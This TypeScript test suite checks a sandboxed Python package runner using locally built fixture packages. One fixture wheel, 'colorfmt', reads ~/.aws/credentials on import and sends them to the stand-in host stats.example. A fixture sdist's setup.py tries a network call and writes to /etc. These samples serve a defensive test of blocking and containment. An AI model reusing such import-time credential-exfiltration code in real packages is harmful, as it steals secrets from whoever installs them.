/**
 * Third-party packages end to end, offline: fixture wheels and sdists built by the test, served by
 * a PEP 503 index the test starts on loopback (the download sandbox reaches it through the egress
 * proxy, which allows that exact address); nothing is ever installed on the host.
 */
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import Docker from 'dockerode';
import { execa } from 'execa';
import { assertEngineReachable } from '../support/engine.js';
import { saferun, tempWorkdir } from '../support/saferun.js';
import { sdist, serveSimpleIndex, wheel, type SimpleIndex } from '../support/wheels.js';

let index: SimpleIndex;
let canary: http.Server;
let canaryHits = 0;
let canaryPort = 0;
const runIds: string[] = [];

const greet = wheel('greetlib', '1.0.0', { 'greetlib/__init__.py': 'def hello():\n    return "hello from greetlib"\n' });
const evil = wheel('colorfmt', '2.1.0', {
  'colorfmt/__init__.py': [
    'import os, base64, urllib.request',
    'def _sync():',
    '    blob = base64.b64encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read())',
    '    urllib.request.urlopen(urllib.request.Request("http://stats.example/collect", data=blob, headers={"X-Data": blob.decode()}))',
    '_sync()',
    '',
  ].join('\n'),
});

before(async () => {
  await assertEngineReachable();
  canary = http.createServer((_req, res) => {
    canaryHits++;
    res.end('hit');
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  canaryPort = (canary.address() as AddressInfo).port;
  const builder = await sdist('buildtrap', '0.1.0', [
    'import urllib.request, os',
    'try:',
    `    urllib.request.urlopen("http://127.0.0.1:${canaryPort}/from-setup", timeout=5)`,
    'except Exception as e:',
    '    print("network refused:", e)',
    'for target in ("/etc/buildtrap", os.path.expanduser("~/../../etc/buildtrap")):',
    '    try:',
    '        open(target, "w").write("x")',
    '    except OSError as e:',
    '        print("write refused:", e)',
    'from setuptools import setup',
    'setup(name="buildtrap", version="0.1.0", py_modules=["buildtrap"])',
    '',
  ].join('\n'), { 'buildtrap.py': 'VALUE = 1\n' });
  const broken = await sdist('brokenbuild', '0.2.0', 'raise SystemExit("this package does not build")\n');
  index = await serveSimpleIndex([greet, evil, builder, broken]);
});

after(async () => {
  await index?.close();
  await new Promise<void>((resolve) => canary?.close(() => resolve()));
  // nothing of these runs is left on the engine (scoped to this file's run ids)
  const docker = new Docker();
  const containers = await docker.listContainers({ all: true, filters: JSON.stringify({ label: ['saferun.run'] }) });
  const ours = containers.filter((c) => runIds.some((id) => (c.Labels['saferun.run'] ?? '').startsWith(id)));
  assert.deepEqual(ours.map((c) => c.Names), [], 'no container of these runs remains');
});

function project(files: Record<string, string>): string {
  const dir = tempWorkdir();
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
  return dir;
}

function report(dir: string): { runId: string; exitCode: number; exitReason: string; riskLevel: string; packages?: { name: string; file: string; riskLevel: string; sha256: string }[]; findings: { ruleId: string; file: string; severity: string }[]; sandbox: { networkMode: string } | null; network?: { mode: string } } {
  const parsed = JSON.parse(readFileSync(path.join(dir, 'report.json'), 'utf8'));
  runIds.push(parsed.runId);
  return parsed;
}

test('a script that imports a fixture package runs and prints from it; the second run downloads and installs nothing', async () => {
  const dir = project({ 'app.py': 'import greetlib\nprint(greetlib.hello())\n', 'requirements.txt': 'greetlib==1.0.0\n' });
  const first = await saferun(['--index-url', index.url, '--report', 'report.json', 'app.py'], { cwd: dir });
  assert.equal(first.exitCode, 0, first.stderr);
  assert.equal(first.stdout, 'hello from greetlib\n');
  const r1 = report(dir);
  assert.equal(r1.packages?.[0]?.name, 'greetlib');
  assert.equal(r1.packages?.[0]?.file, greet.file);
  assert.match(r1.packages?.[0]?.sha256 ?? '', /^[0-9a-f]{64}$/);
  const downloads = index.requests.filter((r) => r.startsWith('/files/')).length;
  assert.ok(downloads >= 1);

  const second = await saferun(['--index-url', index.url, '--report', 'report.json', 'app.py'], { cwd: dir });
  assert.equal(second.exitCode, 0, second.stderr);
  assert.equal(second.stdout, 'hello from greetlib\n');
  assert.equal(index.requests.filter((r) => r.startsWith('/files/')).length, downloads, 'the cached environment was used: nothing downloaded');
  assert.equal(report(dir).packages?.[0]?.name, 'greetlib', 'the cached inspection is still reported');
  // nothing on the host's Python
  const host = await execa('python3', ['-c', 'import greetlib'], { reject: false });
  assert.notEqual(host.exitCode, 0, 'greetlib is not importable on the host');
});

test('a wheel with hidden exfiltration is blocked before install, and the report names it', async () => {
  const dir = project({ 'app.py': 'import colorfmt\nprint("formatted")\n' });
  const result = await saferun(['-p', 'strict', '--index-url', index.url, '--with', 'colorfmt==2.1.0', '--report', 'report.json', 'app.py'], { cwd: dir });
  assert.equal(result.exitCode, 120, result.stderr);
  assert.equal(result.stdout, '');
  const r = report(dir);
  assert.equal(r.sandbox, null, 'nothing ran');
  const pkg = r.packages?.find((p) => p.name === 'colorfmt');
  assert.ok(pkg && (pkg.riskLevel === 'high' || pkg.riskLevel === 'critical'), JSON.stringify(r.packages));
  assert.ok(r.findings.some((f) => f.file.startsWith(`${evil.file}!`) && (f.severity === 'high' || f.severity === 'critical')));
  assert.match(result.stderr, new RegExp(evil.file.replace(/\./g, '\\.')));
});

test('an sdist whose setup.py reaches for the network and writes outside its build dir is contained', async () => {
  const dir = project({ 'app.py': 'import buildtrap\nprint("value", buildtrap.VALUE)\n' });
  const result = await saferun(['--yes', '--index-url', index.url, '--with', 'buildtrap==0.1.0', '--report', 'report.json', 'app.py'], { cwd: dir });
  const r = report(dir);
  // whether the policy lets it run or not, setup.py ran only inside sandboxes
  assert.equal(canaryHits, 0, 'the host server was never reached from setup.py');
  assert.equal(existsSync('/etc/buildtrap'), false);
  assert.ok(r.packages?.some((p) => p.name === 'buildtrap'), result.stderr);
  if (r.exitReason === 'exited') assert.equal(result.stdout, 'value 1\n');
});

test('strict keeps no network in the run, and never builds sdists', async () => {
  const dir = project({ 'app.py': 'import greetlib, socket\nprint(greetlib.hello())\nprint(len(socket.if_nameindex()))\n' });
  const result = await saferun(['-p', 'strict', '--index-url', index.url, '--with', 'greetlib==1.0.0', '--report', 'report.json', 'app.py'], { cwd: dir });
  assert.equal(result.exitCode, 0, result.stderr);
  assert.equal(result.stdout, 'hello from greetlib\n1\n', 'only the loopback interface');
  const r = report(dir);
  assert.equal(r.sandbox?.networkMode, 'none');
  const sdistOnly = await saferun(['-p', 'strict', '--index-url', index.url, '--with', 'buildtrap==0.1.0', 'app.py'], { cwd: dir });
  assert.equal(sdistOnly.exitCode, 125, sdistOnly.stderr);
  assert.match(sdistOnly.stderr, /buildtrap/);
});

test('a hash mismatch, a name the index lacks and an sdist that does not build fail clearly with exit 125, leaving no environment behind', async () => {
  const dir = project({ 'app.py': 'print(1)\n', 'requirements.txt': `greetlib==1.0.0 --hash=sha256:${'0'.repeat(64)}\n` });
  const cacheDir = path.join(os.tmpdir(), `saferun-envs-test-${process.pid}`);
  const env = { SAFERUN_ENVS_DIR: cacheDir };
  const mismatch = await saferun(['--index-url', index.url, 'app.py'], { cwd: dir, env });
  assert.equal(mismatch.exitCode, 125, mismatch.stderr);
  assert.match(mismatch.stderr, /greetlib.*hash/i);
  const missing = await saferun(['--index-url', index.url, '--with', 'nosuchthing==1.0', '--requirements', '/dev/null', 'app.py'], { cwd: dir, env });
  assert.equal(missing.exitCode, 125, missing.stderr);
  assert.match(missing.stderr, /package nosuchthing/);
  const unbuildable = await saferun(['--yes', '--index-url', index.url, '--with', 'brokenbuild==0.2.0', '--requirements', '/dev/null', 'app.py'], { cwd: dir, env });
  assert.equal(unbuildable.exitCode, 125, unbuildable.stderr);
  assert.match(unbuildable.stderr, /brokenbuild/);
  assert.deepEqual(existsSync(cacheDir) ? readdirSync(cacheDir) : [], [], 'no half-built environment');
});
